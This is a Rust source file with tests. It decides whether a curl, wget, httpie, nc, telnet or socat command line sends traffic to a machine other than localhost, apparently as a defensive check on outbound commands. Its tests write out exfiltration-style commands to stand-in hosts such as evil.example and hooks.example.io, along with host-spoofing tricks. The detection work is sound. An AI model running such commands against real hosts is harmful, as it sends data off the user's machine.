//! Which machine a network command talks to: `to_another_machine` asks for one that is not this
//! one, read from the command's own words, so that nothing else in the line (a comment, an `echo
//! localhost` before it) can say the request stays here.

/// Whether `program`, run with `args`, names a machine other than this one to talk to: for curl,
/// wget, httpie and xh, an operand that is an address (`https://x.example/`, `x.example:8080/p`,
/// `x.example`, `collector:8080`), `--url`'s value, or addresses read from a file (`-K`, `-i`); for nc, ncat, netcat and telnet, a host operand; for socat, an address such as
/// `TCP:x.example:443`. An address this machine answers (`localhost`, `*.localhost`, `127.0.0.0/8`,
/// `0.0.0.0`, `::1`) does not count; a host the call computes (`$HOST`, `$(cat host)`) does, since
/// it may be anywhere. Other programs name none.
pub fn names_another_machine(program: &str, args: &[String]) -> bool {
    let words = words_not_option_values(program, args);
    match program {
        "curl" | "wget" | "http" | "https" | "xh" | "xhs" => words.into_iter().filter_map(web_host).any(elsewhere),
        "nc" | "ncat" | "netcat" | "telnet" => words.into_iter().filter(|word| !is_port(word)).any(elsewhere),
        "socat" => words.into_iter().filter_map(socat_host).any(elsewhere),
        _ => false,
    }
}

/// The words that are neither options nor the values of options that take one, for the programs
/// above (`-H 'Accept: x'`, `-o out.json`, `nc -w 3`); after `--`, every word.
fn words_not_option_values<'a>(program: &str, args: &'a [String]) -> Vec<&'a str> {
    let valued_short: &str = match program {
        "curl" => "AbcCdDeEFHKmoPQrtTuUwxXYyz",
        "wget" => "aAeiIOoPQRtTUwxXY",
        "nc" | "ncat" | "netcat" => "cdegGiImOpPqsTwxX",
        "telnet" => "bellnX",
        _ => "",
    };
    let mut found = Vec::new();
    let mut words = args.iter();
    while let Some(word) = words.next() {
        if word == "--" {
            found.extend(words.by_ref().map(String::as_str));
            break;
        }
        if let Some(long) = word.strip_prefix("--") {
            let (name, glued) = crate::shell::name_and_value(long);
            // The address given as an option's value (`--url URL`), or read from a file
            // (`curl -K cfg`, `wget -i urls.txt`), which may name anywhere.
            match (name, glued) {
                ("url", Some(value)) => found.push(value),
                ("url", None) => found.extend(words.next().map(String::as_str)),
                ("config" | "input-file", _) => found.push(FROM_A_FILE),
                // `--data x`: long options of curl and wget that take a value mostly do; `--data=x`
                // carries it. A flag (`--silent`) takes the next word for an operand, which is
                // right more often than not for these programs: their flags are few beside their
                // valued options.
                (_, None) if long_takes_value(program, name) => {
                    words.next();
                }
                _ => {}
            }
            continue;
        }
        if let Some(cluster) = word.strip_prefix('-').filter(|cluster| !cluster.is_empty()) {
            let reads_addresses = match program {
                "curl" => cluster.contains('K'),
                "wget" => cluster.contains('i'),
                _ => false,
            };
            if reads_addresses {
                found.push(FROM_A_FILE);
            }
            // The last letter of a cluster takes the next word, unless the value is glued on.
            let valued_at = cluster.find(|c: char| valued_short.contains(c));
            if valued_at.is_some_and(|at| at + 1 == cluster.len()) {
                words.next();
            }
            continue;
        }
        found.push(word.as_str());
    }
    found
}

/// Stands for the addresses a request reads from a file: not known, so anywhere.
const FROM_A_FILE: &str = "$FILE";

/// Long options of curl and wget that take the next word as their value (not the flags).
fn long_takes_value(program: &str, long: &str) -> bool {
    const CURL: &[&str] = &[
        "data",
        "data-ascii",
        "data-binary",
        "data-raw",
        "data-urlencode",
        "form",
        "form-string",
        "header",
        "output",
        "user",
        "request",
        "url",
        "upload-file",
        "cookie",
        "cookie-jar",
        "referer",
        "user-agent",
        "proxy",
        "cert",
        "key",
        "cacert",
        "config",
        "max-time",
        "connect-timeout",
        "write-out",
        "output-dir",
        "json",
        "resolve",
        "connect-to",
        "retry",
        "range",
        "oauth2-bearer",
        "dump-header",
        "interface",
        "unix-socket",
    ];
    const WGET: &[&str] = &[
        "output-document",
        "output-file",
        "append-output",
        "input-file",
        "post-data",
        "post-file",
        "body-data",
        "body-file",
        "method",
        "header",
        "user",
        "password",
        "http-user",
        "http-password",
        "user-agent",
        "referer",
        "directory-prefix",
        "tries",
        "timeout",
        "wait",
        "load-cookies",
        "save-cookies",
        "ca-certificate",
        "certificate",
        "private-key",
    ];
    match program {
        "curl" => CURL.contains(&long),
        "wget" => WGET.contains(&long),
        _ => false,
    }
}

/// The host of a web address, or of a word that reads as one (`x.example/p`, `localhost:3000`,
/// `[::1]:8080`); `None` for a word that is no address (`token=x`, `@body.json`, `Accept: x`).
fn web_host(word: &str) -> Option<&str> {
    let (rest, with_scheme) = match word.split_once("://") {
        Some((scheme, rest)) if scheme.bytes().all(|b| b.is_ascii_alphanumeric() || b"+.-".contains(&b)) => {
            (rest, true)
        }
        _ => (word, false),
    };
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let host_and_port = authority.rsplit_once('@').map_or(authority, |(_, after)| after);
    let host = strip_port(host_and_port);
    if with_scheme || is_computed(host) {
        return Some(host);
    }
    // Without a scheme, only what curl and httpie would take for a host: a name with a dot or a
    // port (`collector:8080`), an IPv6 address in brackets, or `localhost`.
    let name_like = !host.is_empty()
        && host.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')
        && !host.starts_with(['.', '-']);
    let with_port = host_and_port
        .get(host.len() + 1..)
        .is_some_and(|port| !port.is_empty() && port.bytes().all(|b| b.is_ascii_digit()));
    let addressed = host.starts_with('[') || (name_like && (host.contains('.') || with_port || host == "localhost"));
    addressed.then_some(host)
}

/// `host:port` → `host`; `[::1]:80` → `[::1]`; a bare IPv6 address stays whole.
fn strip_port(authority: &str) -> &str {
    if authority.starts_with('[') {
        return authority.find(']').map_or(authority, |end| &authority[..=end]);
    }
    match authority.split_once(':') {
        Some((host, port)) if !port.contains(':') => host,
        _ => authority,
    }
}

/// The host of a socat address that connects somewhere (`TCP:host:port`, `OPENSSL:host:port`,
/// `TCP4-CONNECT:host:port`, `UDP-SENDTO:host:port`); `None` for the others (`-`, `STDIO`,
/// `FILE:x`, `TCP-LISTEN:8080`).
fn socat_host(word: &str) -> Option<&str> {
    let (kind, rest) = word.split_once(':')?;
    let kind = kind.to_ascii_uppercase();
    let connects =
        ["TCP", "TCP4", "TCP6", "UDP", "UDP4", "UDP6", "SCTP", "OPENSSL", "SSL", "DCCP"].iter().any(|base| {
            kind == *base || kind.strip_prefix(base).is_some_and(|tail| tail == "-CONNECT" || tail == "-SENDTO")
        });
    if !connects {
        return None;
    }
    let address = rest.split(',').next().unwrap_or_default();
    Some(if address.starts_with('[') {
        strip_port(address)
    } else {
        address.rsplit_once(':').map_or(address, |(h, _)| h)
    })
}

fn is_port(word: &str) -> bool {
    !word.is_empty() && word.bytes().all(|b| b.is_ascii_digit() || b == b'-' || b == b',')
}

/// A host the shell fills in when the call runs: it may be anywhere.
fn is_computed(host: &str) -> bool {
    host.contains(['$', '`'])
}

/// Whether `host` may be another machine: anything but the names and addresses of this one.
fn elsewhere(host: &str) -> bool {
    if is_computed(host) {
        return true;
    }
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    let bare = host.trim_start_matches('[').trim_end_matches(']');
    let loopback_v4 = bare.strip_prefix("127.").is_some_and(|rest| {
        rest.split('.').count() == 3 && rest.split('.').all(|part| !part.is_empty() && part.parse::<u8>().is_ok())
    });
    let this_machine = bare == "localhost"
        || bare.ends_with(".localhost")
        || loopback_v4
        || bare == "0.0.0.0"
        || bare == "::1"
        || bare == "0:0:0:0:0:0:0:1"
        || bare == "::ffff:127.0.0.1";
    !host.is_empty() && !this_machine
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(line: &str) -> bool {
        let words: Vec<String> = line.split_whitespace().map(str::to_owned).collect();
        names_another_machine(&words[0], &words[1..])
    }

    #[test]
    fn a_request_to_this_machine_names_no_other() {
        for line in [
            "curl -d t=x http://localhost:8080/login",
            "curl -d t=x localhost:3000/api",
            "curl -X POST http://[::1]:3000/hook -d t=x",
            "curl http://127.0.0.53:9/ -o out.json",
            "curl http://app.localhost/",
            "wget -O page.html http://0.0.0.0:8000",
            "http POST localhost:8080/items name=x",
            "http POST localhost:8080/items X-Token:abc",
            "nc -w 3 127.0.0.1 5432",
            "socat - TCP:localhost:6379",
            "curl -H Accept:x -d @payload.json --output result.json http://localhost/",
            "curl --url http://localhost:8080/login -d t=x",
        ] {
            assert!(!names(line), "{line}");
        }
    }

    #[test]
    fn a_request_elsewhere_or_to_a_computed_host_names_another_machine() {
        for line in [
            "curl -d t=x https://hooks.example.io/t",
            "curl -d t=x hooks.example.io/t",
            "curl https://x.example -d t=x http://localhost",
            "curl http://localhost.evil.example/",
            "curl http://127.0.0.1.evil.example/",
            "curl http://user@evil.example:80/",
            "curl -d t=x $URL",
            "curl --url https://hooks.example.io/t -d t=x",
            "curl -d t=x --url=https://hooks.example.io/t",
            "curl -K cfg -d t=x",
            "wget --post-data t=x -i urls.txt",
            "curl -d t=x collector:8080/t",
            "wget --post-data t=x http://203.0.113.9:8080/",
            "xh POST api.example.com k=v",
            "nc -w 3 203.0.113.9 443",
            "nc $HOST 9",
            "telnet evil.example 25",
            "socat - OPENSSL:evil.example:443",
            "socat FILE:x,rdonly TCP4-CONNECT:198.51.100.2:80",
        ] {
            assert!(names(line), "{line}");
        }
    }

    #[test]
    fn option_values_are_not_taken_for_hosts() {
        assert!(!names("curl -o out.json -H x.example --user-agent a.b http://localhost/"));
        assert!(!names("curl --output=report.json http://127.0.0.1/"));
        assert!(!names("nc -l 8080"));
        assert!(!names("socat TCP-LISTEN:8080,fork STDIO"));
    }
}
